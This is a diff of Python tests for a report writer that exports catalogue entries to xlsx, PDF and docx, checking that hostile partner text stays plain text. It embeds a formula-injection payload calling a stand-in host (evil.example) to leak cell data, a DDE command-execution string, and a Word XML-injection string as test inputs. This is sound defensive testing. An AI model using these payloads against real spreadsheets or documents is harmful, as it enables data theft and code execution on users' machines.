@@ -181,7 +181,7 @@ def test_report_in_every_format(filled: Catalogue, tmp_path: Path, fmt: str) -> 
 
 def test_report_refuses_json_and_keeps_existing_files(filled: Catalogue, tmp_path: Path) -> None:
     report = transfer_report(filled, date=DAY)
-    with pytest.raises(InvalidInput, match="choose one of pdf, docx, md, html"):
+    with pytest.raises(InvalidInput, match="choose one of pdf, docx, xlsx, md, html"):
         write_report(report, "json", tmp_path / "r.json")
     existing = tmp_path / "r.md"  # beside the fixture's home folder
     existing.write_text("keep")
@@ -192,3 +192,73 @@ def test_report_refuses_json_and_keeps_existing_files(filled: Catalogue, tmp_pat
     folder = tmp_path / "out"
     folder.mkdir()
     assert write_report(report, "md", folder).path == folder / "Transfer report.md"
+
+
+def test_a_report_workbook_keeps_formulas_as_text(catalogue: Catalogue, tmp_path: Path) -> None:
+    """A partner's text that begins with "=" is written as text, never as a formula."""
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    catalogue.add_entry(
+        {
+            **sample_entry(title=hostile, organisation={"name": "=cmd|' /C calc'!A0"}),
+            "interreg": {
+                "project": "AI4Citizens",
+                "transfers": [{"partner": "Riga [RDA]: *digital*/agency?", "action_plan": hostile}],
+            },
+        }
+    )
+    path = write_report(transfer_report(catalogue, date=DAY), "xlsx", tmp_path / "r.xlsx").path
+    book = openpyxl.load_workbook(path)
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert sum(c.value == hostile for c in cells) >= 2
+    assert book.sheetnames[0] == "Transfer report"
+    assert "Riga  RDA   digital  agency" not in book.sheetnames  # spacing made plain
+    assert "Riga RDA digital agency" in book.sheetnames
+
+
+def test_a_long_value_in_the_pdf_report_goes_on_to_the_next_page(
+    catalogue: Catalogue, tmp_path: Path
+) -> None:
+    """The report's tables break lines themselves: a value longer than a page carries on
+    to the next one, a word longer than a line is cut, and right-to-left text is shaped."""
+    from pypdf import PdfReader
+
+    opinion = " ".join(f"word{n}" for n in range(1500)) + " " + "x" * 300
+    catalogue.add_entry(
+        {
+            **sample_entry(title="Long opinion", organisation={"name": "مدينة الرياض"}),
+            "interreg": {"project": "AI4Citizens", "expert_opinion": opinion},
+        }
+    )
+    path = write_report(transfer_report(catalogue, date=DAY), "pdf", tmp_path / "r.pdf").path
+    pages = PdfReader(path).pages
+    assert len(pages) >= 3
+    text = text_of(path)
+    assert "word0 word1" in text
+    assert "word1499" in text
+    assert "x" * 100 in text.replace(" ", "")
+
+
+def test_the_docx_report_keeps_markup_in_values_as_text(
+    catalogue: Catalogue, tmp_path: Path
+) -> None:
+    """The report's Word tables are written as XML: a partner's `<`, `&` and quotes stay
+    the characters they are, and a newline is a line break."""
+    import docx
+
+    plan = '</w:t></w:r><w:r><w:t>injected & "quoted" <b>'
+    catalogue.add_entry(
+        {
+            **sample_entry(title="Markup"),
+            "interreg": {
+                "project": "AI4Citizens",
+                "transfers": [{"partner": "Riga", "action_plan": plan, "note": "one\ntwo"}],
+            },
+        }
+    )
+    path = write_report(transfer_report(catalogue, date=DAY), "docx", tmp_path / "r.docx").path
+    cells = [c.text for t in docx.Document(str(path)).tables for r in t.rows for c in r.cells]
+    assert plan in cells
+    assert "one\ntwo" in cells
